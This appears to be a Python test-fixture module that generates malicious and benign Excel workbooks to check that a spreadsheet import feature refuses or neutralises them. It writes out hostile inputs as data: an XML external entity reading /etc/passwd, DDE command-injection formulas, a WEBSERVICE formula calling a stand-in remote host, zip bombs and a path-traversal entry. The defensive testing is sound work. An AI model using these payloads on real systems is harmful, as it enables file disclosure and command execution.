"""Workbooks for the import of a list that no office would send."""

import struct
from datetime import datetime
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import xlsxwriter

from tests.hostile.corpus import FAR, ROSTER, Corpus
from tests.hostile.packages import patched, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WIDE = (1_048_575, 16_383)


def book(fill: Any, **options: Any) -> bytes:
    out = BytesIO()
    with xlsxwriter.Workbook(out, options) as made:
        made.set_properties({"created": datetime(2025, 1, 2)})  # the same bytes every day
        fill(made)
    return out.getvalue()


def a_list(made: Any) -> None:
    page = made.add_worksheet("Danh sách")
    page.write_row(0, 0, ["Họ và tên", "Ngày sinh", "Chi bộ", "Quê quán"])
    page.write_row(1, 0, ["Hồ Thị Mẫu", "05/09/1998", "Chi bộ khóm Khe Xong", "Đakrông"])


def changed(good: bytes, **parts: "bytes | str | None") -> bytes:
    """A good workbook with some parts in the place of its own, or beside them."""
    with ZipFile(BytesIO(good)) as package:
        kept = {name: package.read(name) for name in package.namelist()}
    kept |= parts  # type: ignore[arg-type]
    return zipped((name, content) for name, content in kept.items() if content is not None)


def make(corpus: Corpus) -> None:
    good = book(a_list)
    for code, files in _refused(corpus, good).items():
        for title, content in files.items():
            corpus.add(f"list: {title}", content, code, family="lists", where=ROSTER,
                       name="danh-sach.xlsx")  # fmt: skip
    for title, content in _inert(good).items():
        corpus.add(f"list: {title}", content, gone=(b"CANARY",), family="lists", where=ROSTER,
                   name="danh-sach.xlsx")  # fmt: skip


def _refused(corpus: Corpus, good: bytes) -> dict[str, dict[str, bytes]]:
    small, sheet = b"0" * (3 << 20), "xl/worksheets/sheet1.xml"
    declared = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet>&b;</worksheet>'

    def corners(made: Any) -> None:
        page = made.add_worksheet()
        page.write(0, 0, "Họ và tên")
        page.write(*WIDE, "x")

    def many_sheets(made: Any) -> None:
        for number in range(300):
            made.add_worksheet(str(number))

    return {
        "macros": {
            "a macro project": changed(good, **{"xl/vbaProject.bin": b"x"}),
            "a macro project in capitals": changed(good, **{"XL/VbaProject.BIN": b"x"}),
            "a control": changed(good, **{"xl/activeX/activeX1.xml": b"<a/>"}),
            "a sheet of old macros": changed(good, **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
            "a book that says it has macros": changed(good, **{
                "[Content_Types].xml": b"<Types><Override PartName='/xl/workbook.xml' ContentType="
                b"'application/vnd.ms-excel.sheet.macroEnabled.main+xml'/></Types>"}),
        },
        "external_links": {
            "a link to a book": changed(good, **{"xl/externalLinks/externalLink1.xml": b"<a/>"}),
            "a connection": changed(good, **{"xl/connections.xml": b"<a/>"}),
            "a query": changed(good, **{"xl/queryTables/queryTable1.xml": b"<a/>"}),
        },
        "embedded_objects": {"an object": changed(good, **{"xl/embeddings/a.bin": b"x"})},
        "bomb": {
            "a part that bursts": changed(good, **{"xl/a.xml": small}),
            "two thousand parts": changed(good, **{f"xl/{n}.xml": b"" for n in range(2001)}),
            "a hundred parts that burst a little": changed(
                good, **{f"xl/{n}.xml": b"0" * (1 << 20) for n in range(101)}),
        },
        "damaged": {
            "cut": good[: len(good) // 2],
            "an archive in it": changed(good, **{"a.zip": b"PK"}),
            "a path out of it": changed(good, **{"../a.xml": b"<a/>"}),
            "claims less than it holds": patched(good, sheet, 24, struct.pack("<I", 10)),
            "a sheet that is noise": changed(good, **{sheet: corpus.chance.randbytes(900)}),
            "a book that is not closed": changed(good, **{"xl/workbook.xml": b"<workbook>"}),
        },
        "too_heavy": {"two cells in opposite corners": book(corners)},
        "nothing_inside": {
            "three hundred empty sheets": book(many_sheets),
            "an entity": changed(good, **{sheet: declared}),
        },
        "encrypted": {"sealed": OLE + "EncryptedPackage".encode("utf-16-le")},
        "old_format": {"a book of 1997": OLE + b"\0" * 4096},
        "web_page": {"a page": b"<html><table><tr><td>=1</td></tr></table></html>"},
        "not_a_workbook": {
            "commas": "Họ và tên\n=cmd|' /C calc'!A0\n".encode(),
            "a document": zipped([("word/document.xml", b"<a/>")]),
        },
        "empty_file": {"nothing": b""},
        "too_large": {"thirteen megabytes": b"PK\3\4" + b"\0" * (13 << 20)},
    }  # fmt: skip


def _inert(good: bytes) -> dict[str, bytes]:
    """What is read as plain words, or not at all."""

    def formulas(made: Any) -> None:
        page = made.add_worksheet()
        page.write_row(0, 0, ["Họ và tên", "Ngày sinh", "Chi bộ", "Quê quán"])
        page.write_row(1, 0, ["Hồ Thị Mẫu", "05/09/1998", "Chi bộ khóm Khe Xong"])
        page.write_formula(1, 3, f'=WEBSERVICE("{FAR}CANARY")', None, "Đakrông")
        page.write_formula(2, 3, "=cmd|' /C CANARY'!A0", None, "")

    def linked(made: Any) -> None:
        page = made.add_worksheet()
        page.write_row(0, 0, ["Họ và tên", "Ngày sinh", "Chi bộ"])
        page.write_row(1, 0, ["Hồ Thị Mẫu", "05/09/1998", "Chi bộ khóm Khe Xong"])
        page.write_url(2, 5, FAR + "CANARY", string="a")
        page.write_comment(1, 1, "CANARY")

    return {
        "formulas that fetch": book(formulas),
        "links and notes": book(linked),
        "data of another program": changed(good, **{"customXml/item1.xml": b"<a>CANARY</a>"}),
        "who made it": changed(good, **{"docProps/core.xml": b"<a>CANARY</a>"}),
    }
